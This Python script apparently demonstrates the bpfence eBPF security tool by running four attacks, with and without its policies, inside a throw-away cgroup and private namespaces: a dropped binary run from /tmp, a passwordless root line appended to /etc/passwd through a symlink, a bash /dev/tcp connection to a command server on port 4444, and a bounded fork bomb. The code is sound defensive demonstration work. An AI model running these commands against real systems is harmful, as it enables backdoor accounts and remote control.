#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The shipped policies and four real attacks in, what happened without and with bpfence out.

`make demo` calls it. Where this kernel lets BPF programs decide (LSM or fmod_ret) everything runs here, scoped to a throw-away cgroup
and, for the files it touches, in a private mount namespace; elsewhere it runs in a guest (vmtest). Exit code 0 only if every attack
worked without bpfence, was stopped with it, left an alert, and every benign twin worked both times.
"""

from __future__ import annotations

import argparse
import contextlib
import ctypes
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import msgspec
import yaml
from rich.console import Console
from rich.highlighter import JSONHighlighter
from rich.json import JSON
from rich.panel import Panel
from rich.table import Table
from rich.text import Text

ROOT = Path(__file__).resolve().parent.parent
TRIGGER = ROOT / ".build" / "trigger"
POLICIES = ROOT / "examples" / "policies"
CGROUPS = Path("/sys/fs/cgroup")
KERNEL = "6.12"
SERVER = "203.0.113.66"  # RFC 5737: an address of documentation, here on our own loopback
ACT_SECONDS = 600
READY_SECONDS = 1200
ALERT_SECONDS = 60
STOP_SECONDS = 60
GUEST_SECONDS = 3600
"""Several times what is enough in a guest on a machine that has nothing else to do: others may come to need it after `allowed` has measured
how slow it is. Who watches is told how long it takes, and may end it."""
USUAL_START = 0.6
"""Seconds that an interpreter takes to start in such a guest, a few times what it takes on hardware."""
TELL_SECONDS = 15
CLONE_NEWNS, CLONE_NEWNET = 0x00020000, 0x40000000
MS_BIND, MS_REC, MS_PRIVATE = 4096, 16384, 1 << 18


class DemoError(Exception):
    """The demo cannot go on; the message is for people."""


def slowness() -> float:
    """How many times slower than usual this machine is now; 1 at least."""
    started = time.monotonic()
    subprocess.run([sys.executable, "-I", "-S", "-c", ""], check=True)
    return max(1.0, (time.monotonic() - started) / USUAL_START)


def allowed(seconds: float) -> float:
    """The limit for something that usually takes less than `seconds`, on this machine and as busy as it is now."""
    return seconds * slowness()


class Act(msgspec.Struct, frozen=True):
    """One command, and whether it did what its author wanted."""

    title: str
    command: tuple[str, ...]
    text: str = ""  # standard input
    worked: Callable[[int, str], bool] = lambda code, out: code == 0


class Scene(msgspec.Struct, frozen=True):
    """One shipped policy, an attack it stops, and a benign twin."""

    policy: str
    title: str
    prepare: tuple[tuple[str, ...], ...]
    attack: Act
    benign: Act


def scenes(work: Path) -> list[Scene]:
    """The acts, in the order they are shown. `work` is a throw-away folder below /tmp."""
    dropper, link, notes, plain = (str(work / name) for name in ("dropper", "holiday.jpg", "notes.txt", "my-notes"))
    # Not from the checkout itself, which may lie below /tmp, where the first policy lets nothing run.
    trigger = f"/run/{work.name}-trigger"
    return [
        Scene(
            policy="no-exec-from-world-writable.yaml",
            title="a dropped binary is run from /tmp",
            prepare=(("cp", str(TRIGGER), dropper), ("chmod", "755", dropper), ("cp", str(TRIGGER), trigger), ("chmod", "755", trigger)),
            attack=Act("run the dropped program", (dropper, "ok")),
            benign=Act("run an installed program", ("/usr/bin/id", "-un")),
        ),
        Scene(
            policy="file-integrity-enforce.yaml",
            title="a root account is added to /etc/passwd through an innocent symlink",
            prepare=(("ln", "-s", "/etc/passwd", link), ("touch", notes), ("ln", "-s", notes, plain)),
            attack=Act("append through the link", ("tee", "-a", link), "toor::0:0:root:/root:/bin/sh\n"),
            benign=Act("append to one's own file through a link", ("tee", "-a", plain), "milk, bread\n"),
        ),
        Scene(
            policy="egress-allow-list.yaml",
            title="a shell connects to its command server",
            prepare=(),
            attack=Act("connect to port 4444", ("bash", "-c", f"exec 3<>/dev/tcp/{SERVER}/4444")),
            benign=Act("connect to port 443 of the same server", ("bash", "-c", f"exec 3<>/dev/tcp/{SERVER}/443")),
        ),
        Scene(
            policy="fork-bomb-guard.yaml",
            title="a user's fork bomb (bounded to 4,500 processes)",
            prepare=(),
            attack=Act("start 4,500 processes", (trigger, "as", "1000", "fork", "4500")),
            benign=Act("start 50 processes", (trigger, "as", "1000", "fork", "50")),
        ),
    ]


class Agent:
    """`bpfence run` over copies of the shipped policies, scoped to one cgroup."""

    def __init__(self, folder: Path, cgroup: str, policies: Sequence[str]) -> None:
        self.alerts = folder / "alerts.jsonl"
        self.log = folder / "agent.log"
        ready = folder / "ready"
        scoped = folder / "policies"
        scoped.mkdir()
        for name in policies:
            (scoped / name).write_text(scope(POLICIES / name, cgroup))
        outputs = ("--output", f"jsonl:{self.alerts}", "--ready-file", str(ready))
        command = [sys.executable, "-m", "bpfence", "run", "-p", str(scoped), *outputs]
        with self.log.open("wb") as log:
            self.process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=log, stderr=log, cwd=ROOT)
        started, limit = time.monotonic(), allowed(READY_SECONDS)
        told = started
        while not ready.exists():
            now = time.monotonic()
            if self.process.poll() is not None or now > started + limit:
                ended = self.process.poll() is not None
                why = "has ended" if ended else f"was not ready within {limit:.0f} s"
                self.stop()
                raise DemoError(f"bpfence run {why}:\n{self.log.read_text(errors='replace')}")
            if now - told >= TELL_SECONDS:
                told = now
                print(f"… {now - started:.0f} s", flush=True)
            time.sleep(0.1)

    def alert(self, policy: str, known: int) -> tuple[dict[str, Any] | None, int]:
        """The first denial of `policy` after the first `known` lines, and how many lines there are now."""
        deadline = time.monotonic() + allowed(ALERT_SECONDS)
        lines: list[str] = []
        while time.monotonic() < deadline:
            text = self.alerts.read_text() if self.alerts.exists() else ""
            lines = text[: text.rfind("\n") + 1].splitlines()
            for line in lines[known:]:
                record: dict[str, Any] = json.loads(line)
                if record.get("policy") == policy and record.get("action") in ("deny", "kill"):
                    return record, len(lines)
            time.sleep(0.05)
        return None, len(lines)

    def stop(self) -> None:
        """End it and take its programs out of the kernel."""
        self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(timeout=allowed(STOP_SECONDS))
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
        subprocess.run([sys.executable, "-m", "bpfence", "unload"], cwd=ROOT, check=False, capture_output=True)


def scope(path: Path, cgroup: str) -> str:
    """The text of a shipped policy with its scope narrowed to `cgroup`."""
    resolvers = {
        first: [(tag, pattern) for tag, pattern in known if tag != "tag:yaml.org,2002:bool" or first in "tTfF"]
        for first, known in yaml.SafeLoader.yaml_implicit_resolvers.items()
    }
    loader = type("Loader", (yaml.SafeLoader,), {"yaml_implicit_resolvers": resolvers})
    document = yaml.load(path.read_text(), loader)  # noqa: S506 - a SafeLoader for which `on` is a key
    spec = document["spec"]
    spec["scope"] = {**(spec.get("scope") or {}), "cgroup": cgroup}
    spec["mode"] = "enforce"
    return yaml.safe_dump(document, sort_keys=False)


def private_world(work: Path) -> None:
    """Namespaces of our own: a copy of /etc/passwd over /etc/passwd, and a network with a server. All of it is gone with us."""
    libc = ctypes.CDLL(None, use_errno=True)
    copy = work / "passwd"
    shutil.copy("/etc/passwd", copy)
    for done in (
        libc.unshare(CLONE_NEWNS | CLONE_NEWNET),
        libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None),
        libc.mount(str(copy).encode(), b"/etc/passwd", None, MS_BIND, None),
    ):
        if done:
            raise DemoError(f"cannot make private namespaces: {os.strerror(ctypes.get_errno())}")
    for command in (["ip", "link", "set", "lo", "up"], ["ip", "address", "add", f"{SERVER}/32", "dev", "lo"]):
        subprocess.run(command, check=True)
    for port in (443, 4444):
        listener = socket.create_server((SERVER, port))
        threading.Thread(target=serve, args=(listener,), daemon=True).start()


def serve(listener: socket.socket) -> None:
    """Accept and hang up, for ever."""
    while True:
        listener.accept()[0].close()


def run(act: Act, cgroup: Path) -> tuple[bool, str]:
    """Run one act inside the cgroup: whether it worked, and the last line it said."""
    limit = allowed(ACT_SECONDS)
    try:
        done = subprocess.run(
            act.command,
            input=act.text,
            text=True,
            capture_output=True,
            timeout=limit,
            check=False,
            preexec_fn=lambda: (cgroup / "cgroup.procs").write_text("0"),
        )
    except OSError as error:
        return False, f"{act.command[0]}: {error.strerror}"
    except subprocess.TimeoutExpired:
        # Neither worked nor stopped: nothing can be concluded from it.
        raise DemoError(f"to {act.title} took more than {limit:.0f} s: this machine is too busy for the demo, try again later") from None
    said = (done.stderr or done.stdout).strip().splitlines()
    return act.worked(done.returncode, done.stdout), said[-1] if said else f"exit code {done.returncode}"


def pretty(alert: dict[str, Any]) -> JSON:
    """The alert as JSON, one line a top-level key where it fits."""
    rows = (f"  {json.dumps(key)}: {json.dumps(value, ensure_ascii=False)}" for key, value in alert.items())
    shown = JSON("{}")
    shown.text = JSONHighlighter()(Text("{\n" + ",\n".join(rows) + "\n}", no_wrap=False))
    return shown


def show(console: Console, when: str, act: Act, worked: bool, said: str, good: bool) -> None:
    """One line about one act."""
    mark = Text(" works " if worked else " stopped ", style="black on green" if good else "white on red")
    console.print(Text.assemble(f"  {when:14} ", f"{act.title:40} ", mark, Text(f"  {said}", style="dim")), soft_wrap=True)


def perform(console: Console) -> int:
    """All scenes here: first without bpfence, then with it. The exit code."""
    if not (CGROUPS / "cgroup.procs").exists():
        subprocess.run(["mount", "-t", "cgroup2", "cgroup2", str(CGROUPS)], check=True)
    with tempfile.TemporaryDirectory(prefix="bpfence-demo-", dir="/tmp") as name:
        work = Path(name)
        work.chmod(0o755)
        private_world(work)
        cgroup = CGROUPS / work.name
        cgroup.mkdir()
        try:
            return compare(console, work, cgroup)
        finally:
            with_retry(lambda: remove_cgroup(cgroup))


def with_retry(remove: Callable[[], None]) -> None:
    """A cgroup can be removed once its last process is reaped, which may take a moment."""
    for _ in range(50):
        try:
            return remove()
        except OSError:
            time.sleep(0.1)
    return remove()


def remove_cgroup(cgroup: Path) -> None:
    """Kill what still runs in it, as after an act that took too long, and take it away. OSError while something does."""
    for pid in (cgroup / "cgroup.procs").read_text().split():
        with contextlib.suppress(ProcessLookupError):
            os.kill(int(pid), signal.SIGKILL)
    cgroup.rmdir()


def compare(console: Console, work: Path, cgroup: Path) -> int:
    """Without, then with; the table; the exit code."""
    plays = scenes(work)
    for scene in plays:
        for command in scene.prepare:
            subprocess.run(command, check=True)
    console.rule("without bpfence")
    before = {}
    for scene in plays:
        console.print(Text(scene.title, style="bold"))
        attack, benign = run(scene.attack, cgroup), run(scene.benign, cgroup)
        show(console, "attack", scene.attack, *attack, good=False)
        show(console, "ordinary work", scene.benign, *benign, good=benign[0])
        before[scene.title] = (attack[0], benign[0])
    console.rule("with bpfence")
    console.print(f"loading {len(plays)} policies, scoped to the cgroup /{cgroup.name} …", style="dim")
    agent = Agent(work, f"/{cgroup.name}", sorted({scene.policy for scene in plays}))
    table = Table("attack", "without", "with bpfence", "alert: policy / rule", "ordinary work")
    failed, known = 0, 0
    try:
        for scene in plays:
            console.print(Text(scene.title, style="bold"))
            attack = run(scene.attack, cgroup)
            show(console, "attack", scene.attack, *attack, good=not attack[0])
            alert, known = agent.alert(yaml.safe_load((POLICIES / scene.policy).read_text())["metadata"]["name"], known)
            benign = run(scene.benign, cgroup)
            show(console, "ordinary work", scene.benign, *benign, good=benign[0])
            if alert is not None:
                console.print(Panel(pretty(alert), title="alert", title_align="left", border_style="red"))
            good = before[scene.title] == (True, True) and not attack[0] and benign[0] and alert is not None
            failed += not good
            table.add_row(
                scene.title,
                "works" if before[scene.title][0] else "[red]does not work[/]",
                "[red]works[/]" if attack[0] else "[green]stopped[/]",
                f"{alert['policy']} / {alert['rule']}" if alert else "[red]none[/]",
                "[green]works[/]" if benign[0] and before[scene.title][1] else "[red]broken[/]",
            )
    finally:
        agent.stop()
    console.rule("summary")
    console.print(table)
    if failed:
        console.print(f"[red]{failed} of {len(plays)} scenes went wrong[/]")
        return 1
    console.print("[green]every attack was stopped, all ordinary work went on[/]")
    return 0


def decides_here() -> tuple[bool, str]:
    """Whether this kernel lets us load programs that decide; and why not."""
    if os.geteuid() != 0:
        return False, "not root"
    done = subprocess.run([sys.executable, "-m", "bpfence", "doctor", "--json"], cwd=ROOT, capture_output=True, text=True, check=False)
    try:
        answer = json.loads(done.stdout)
    except ValueError:
        return False, f"bpfence doctor said nothing usable: {done.stderr.strip()[-200:]}"
    flavour = answer.get("enforcement", "none")
    if flavour in ("lsm", "fmod_ret"):
        return True, f"enforcement by {flavour}"
    if flavour == "unknown":
        return False, "it could not be told whether this kernel lets BPF programs decide"
    return False, "this kernel does not let BPF programs decide"


def in_guest(console: Console, kernel: str) -> int:
    """The same program in a guest, its output shown as it comes."""
    command = [sys.executable, "-m", "vmtest", "run", kernel, "--timeout", f"{allowed(GUEST_SECONDS):.0f}", "--"]
    command += ["env", f"PYTHONPATH={ROOT / 'src'}:{ROOT}", sys.executable, str(ROOT / "tools/demo.py"), "--here"]
    command += ["--width", str(min(console.width, 150)), *(["--color"] if console.is_terminal else [])]
    started = time.monotonic()
    process = subprocess.Popen(command, cwd=ROOT, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
    assert process.stdout is not None
    first = threading.Event()
    ticker = threading.Thread(target=tick, args=(console, kernel, started, first), daemon=True)
    ticker.start()
    try:
        for line in process.stdout:
            if not first.is_set():
                first.set()
                ticker.join()
            sys.stdout.buffer.write(line)
            sys.stdout.buffer.flush()
    finally:
        first.set()
        if process.poll() is None:
            process.terminate() if sys.exc_info()[0] else None
        code = process.wait()
    return code


def tick(console: Console, kernel: str, started: float, until: threading.Event) -> None:
    """Say that the guest is booting until it speaks."""
    shown = 0.0
    if not console.is_terminal:
        console.print(f"booting a Linux {kernel} guest (20 to 60 s, longer on a busy machine) …")
    while not until.wait(0.5):
        seconds = time.monotonic() - started
        if console.is_terminal:
            console.print(f"booting a Linux {kernel} guest … {seconds:.0f} s", end="\r")
        elif seconds - shown >= TELL_SECONDS:
            shown = seconds
            console.print(f"… {seconds:.0f} s")


def main() -> int:
    """Decide where, then act."""
    parser = argparse.ArgumentParser(description="Real attacks, without and with bpfence.")
    parser.add_argument("--here", action="store_true", help="on this kernel, without asking")
    parser.add_argument("--guest", metavar="KERNEL", default="", help="in a guest of this kernel, without asking")
    parser.add_argument("--color", action="store_true", help="as on a terminal")
    parser.add_argument("--width", type=int, default=0)
    options = parser.parse_args()
    console = Console(force_terminal=options.color or None, width=options.width or None, highlight=False)
    if not console.is_terminal and not options.width:
        console.width = 120
    try:
        return act(console, here=options.here, guest=options.guest)
    except KeyboardInterrupt:
        console.print("\n[red]interrupted[/]")
        return 130
    except (DemoError, OSError, subprocess.SubprocessError) as error:
        console.print(Text(f"the demo could not go on: {error}", style="red"))
        return 1


def act(console: Console, *, here: bool, guest: str) -> int:
    """Act here or in a guest, where that is not said, as this kernel allows."""
    if here:
        return perform(console)
    able, why = (False, "asked for") if guest else decides_here()
    if able:
        console.print(f"this kernel lets BPF programs decide ({why}): acting here, in a throw-away cgroup")
        return perform(console)
    console.print(f"acting in a guest ({why})")
    return in_guest(console, guest or KERNEL)


if __name__ == "__main__":
    sys.exit(main())
